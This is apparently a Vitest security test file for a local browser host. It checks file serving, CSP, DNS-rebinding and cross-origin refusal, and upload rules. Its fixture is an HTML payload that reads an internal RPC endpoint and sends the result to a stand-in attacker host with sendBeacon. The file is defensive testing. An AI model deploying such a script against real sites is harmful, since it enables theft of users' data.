import { createHash } from 'node:crypto';
import { mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createWorkbench } from '../../electron/core/workbench';
import { blobPath } from '../../electron/store/blob-store';
import { generateDemo } from '../../electron/services/demo/generate';
import { writeDemoAccounts } from '../../electron/services/demo/accounts';
import { tempDir } from '../integration/helpers';
import { rpc, startHost } from '../integration/web-helpers';

const HTML = Buffer.from('<html><body><script>fetch("/rpc/enterprises.list",{method:"POST",body:"{}"}).then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script></body></html>');

/** A workspace holding a "photo" that is really a page with a script, stored as text/html (as a crafted laptop's upload once was). */
async function workspaceWithPlantedPage(): Promise<{ dir: string; sha256: string }> {
  const dir = join(tempDir(), 'ws');
  const wb = createWorkbench({ dataDir: dir, actor: 'system' });
  generateDemo(wb.store);
  await writeDemoAccounts(wb.store); // the host's token session signs in as the demo's administrator
  const sha256 = createHash('sha256').update(HTML).digest('hex');
  const path = blobPath(wb.store.blobDir, sha256);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, HTML);
  wb.store.db.prepare("INSERT INTO blobs (sha256, size, mime, created_at) VALUES (?, ?, 'text/html', '2026-12-01T00:00:00Z')").run(sha256, HTML.length);
  wb.close();
  return { dir, sha256 };
}

/** A raw HTTP request with a Host header of the caller's choosing (fetch will not let a page set it; DNS rebinding does). */
function rawGet(port: number, path: string, headers: Record<string, string>): Promise<{ status: number; headers: Record<string, string | string[] | undefined> }> {
  return new Promise((ok, fail) => {
    const req = request({ host: '127.0.0.1', port, path, headers }, (res) => { res.resume(); ok({ status: res.statusCode!, headers: res.headers }); });
    req.on('error', fail);
    req.end();
  });
}

describe('a hostile page or file against the browser host', () => {
  it('a stored file that is a page is served as a download nothing can run, with nosniff and a sandboxing CSP', async () => {
    const { dir, sha256 } = await workspaceWithPlantedPage();
    const { url, token } = await startHost(dir);
    const res = await fetch(new URL(`/blobs/${sha256}`, url), { headers: { 'x-qingshui-token': token } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/octet-stream');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment/);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-security-policy')).toMatch(/default-src 'none'.*sandbox/);
  });

  it('every response carries a CSP — pages, calls, files, errors — and the token is exchanged for an HttpOnly cookie, leaving the address', async () => {
    const { url, token } = await startHost(join(tempDir(), 'ws'));
    const first = await fetch(url, { redirect: 'manual' });
    expect(first.status).toBe(303);
    expect(first.headers.get('location')).toBe('/');
    const cookie = first.headers.get('set-cookie')!;
    expect(cookie).toMatch(/HttpOnly/);
    expect(cookie).toMatch(/SameSite=Strict/);
    const session = cookie.split(';')[0];
    const withCookie = { cookie: session, 'content-type': 'application/json' };
    const ok = await fetch(new URL('/rpc/workspace.stats', url), { method: 'POST', headers: withCookie, body: '{}' });
    expect(ok.status).toBe(200);
    const responses = [
      ok, await fetch(new URL('/', url)),
      await fetch(new URL('/rpc/workspace.stats', url), { method: 'POST', body: '{}' }),
      await fetch(new URL('/nothing-here', url)),
      await fetch(new URL(`/blobs/${'0'.repeat(64)}`, url), { headers: { cookie: session } }),
      await fetch(new URL('/rpc/nope.nothing', url), { method: 'POST', headers: withCookie, body: '{bad' }),
    ];
    for (const r of responses) {
      expect(r.headers.get('content-security-policy'), r.url).toBeTruthy();
      expect(r.headers.get('x-content-type-options')).toBe('nosniff');
    }
    // A wrong token is not exchanged; a page's request without the cookie or token is refused.
    expect((await fetch(new URL('/?token=abc', url), { redirect: 'manual' })).status).toBe(401);
    expect((await rpc(url, 'workspace.stats', {})).status).toBe(401);
    expect((await fetch(new URL('/events', url))).status).toBe(401);
    expect((await rpc(url, 'workspace.stats', {}, token)).status).toBe(200);
  });

  it('refuses a request naming another host (DNS rebinding) and a call sent from another site', async () => {
    const { url, token } = await startHost(join(tempDir(), 'ws'));
    const port = Number(url.port);
    const rebound = await rawGet(port, '/', { host: `evil.example:${port}` });
    expect(rebound.status).toBe(421);
    expect((await rawGet(port, '/', { host: `127.0.0.1:${port}` })).status).toBe(200);
    const cross = await fetch(new URL('/rpc/workspace.stats', url), { method: 'POST', headers: { 'x-qingshui-token': token, origin: 'https://evil.example' }, body: '{}' });
    expect(cross.status).toBe(403);
    expect(((await cross.json()) as { error: { message: string } }).error.message).toContain('其他网页');
  });

  it('a page uploaded as a photo or as rectification evidence is refused in Chinese and nothing is stored', async () => {
    const { url, token } = await startHost(join(tempDir(), 'ws'));
    const call = async (name: string, input: unknown) => (await rpc(url, name, input, token)).json() as Promise<{ ok: boolean; error?: { message: string }; value?: unknown }>;
    const before = await call('workspace.stats', {});
    const [person] = (await call('people.list', {})).value as { id: string }[];
    await call('workspace.signIn', { personId: person.id });
    const findings = (await call('findings.list', { limit: 1 })).value as { rows: { id: string }[] };
    const r = await call('findings.act', { id: findings.rows[0].id, kind: 'comment', text: '附件', files: [{ name: 'photo.jpg', base64: HTML.toString('base64') }] });
    expect(r.ok).toBe(false);
    expect(r.error!.message).toMatch(/photo\.jpg/);
    expect((await call('workspace.stats', {})).value).toEqual(before.value);
  });

  it('a large file handed in as a stream (issue 19): only with the session, only from our page, only kinds taken that way, and proved by its bytes', async () => {
    const { url, token } = await startHost(join(tempDir(), 'ws'));
    const upload = (kind: string, body: Buffer, headers: Record<string, string> = {}) => fetch(new URL(`/uploads/${kind}`, url), { method: 'POST', headers, body: new Uint8Array(body) });
    expect((await upload('mp4', HTML)).status).toBe(401);
    expect((await upload('mp4', HTML, { 'x-qingshui-token': token, origin: 'https://evil.example' })).status).toBe(403);
    const exe = await upload('exe', Buffer.from('MZ'), { 'x-qingshui-token': token });
    expect(exe.status).toBe(400);
    expect(((await exe.json()) as { error: { message: string } }).error.message).toContain('不接受');
    // A page sent as a video is taken in as a staged file, then refused by its bytes when a record is to name it.
    const staged = await upload('mp4', HTML, { 'x-qingshui-token': token });
    const { value } = (await staged.json()) as { value: { upload: string } };
    expect(value.upload).toMatch(/^[0-9a-f]{32}\.mp4$/);
    const call = async (name: string, input: unknown) => (await rpc(url, name, input, token)).json() as Promise<{ ok: boolean; error?: { message: string }; value?: unknown }>;
    const before = await call('workspace.stats', {});
    const findings = (await call('findings.list', { limit: 1 })).value as { rows: { id: string }[] };
    const r = await call('findings.act', { id: findings.rows[0].id, kind: 'comment', text: '录像', files: [{ name: '执法记录仪.mp4', upload: value.upload }] });
    expect(r.ok).toBe(false);
    expect(r.error!.message).toMatch(/执法记录仪\.mp4/);
    expect((await call('workspace.stats', {})).value).toEqual(before.value);
    // The staged copy went with the refusal: naming it again finds nothing.
    const again = await call('findings.act', { id: findings.rows[0].id, kind: 'comment', text: '录像', files: [{ name: '执法记录仪.mp4', upload: value.upload }] });
    expect(again.error!.message).toMatch(/上传已失效/);
  });

  it('a town officer may not hand in a sheet to import, a workspace to restore or a basemap: the upload itself is refused by the role (issue 20)', async () => {
    const dir = join(tempDir(), 'ws');
    const { url, token } = await startHost(dir);
    await rpc(url, 'auth.signOut', {}, token);
    const signedIn = await (await rpc(url, 'auth.signIn', { user: 'zhenjie1', password: 'Qingshui2026' }, token)).json() as { ok: boolean };
    expect(signedIn.ok).toBe(true);
    const upload = (kind: string) => fetch(new URL(`/uploads/${kind}`, url), { method: 'POST', headers: { 'x-qingshui-token': token }, body: new Uint8Array(Buffer.from('PK\x03\x04 not really')) });
    for (const kind of ['xlsx', 'qingshui', 'mbtiles']) {
      const r = await upload(kind);
      expect(r.status, kind).toBe(403);
      expect(((await r.json()) as { error: { message: string } }).error.message, kind).toMatch(/[\u4e00-\u9fff]/);
    }
    // Nothing of theirs was staged.
    expect((readdirSync(dir, { recursive: true }) as string[]).filter((f) => /[0-9a-f]{32}\.(xlsx|qingshui|mbtiles)$/.test(f))).toEqual([]);
  });
});
